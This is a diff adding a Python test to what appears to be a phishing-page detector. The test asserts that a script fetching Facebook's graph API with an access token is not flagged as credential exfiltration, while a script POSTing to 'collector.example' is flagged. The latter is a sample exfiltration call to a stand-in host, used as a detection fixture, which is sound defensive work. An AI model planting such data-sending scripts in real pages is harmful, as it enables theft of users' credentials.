@@ -680,3 +680,10 @@ LOGIN_FORM = (
 )
 def test_login_pages_dressed_as_another_network(html, url, fired):
     assert f(html, url=url)["credential.social_login_clone"] == fired
+
+
+def test_calls_to_a_networks_own_graph_api_are_not_exfiltration():
+    html = "<script>fetch(`https://graph.facebook.com/v19.0/me?access_token=${t}`)</script>"
+    assert f(html, url="")["credential.js_exfil"] == 0
+    html = "<script>fetch('https://collector.example/save', {method: 'POST'})</script>"
+    assert f(html, url="")["credential.js_exfil"] == 1
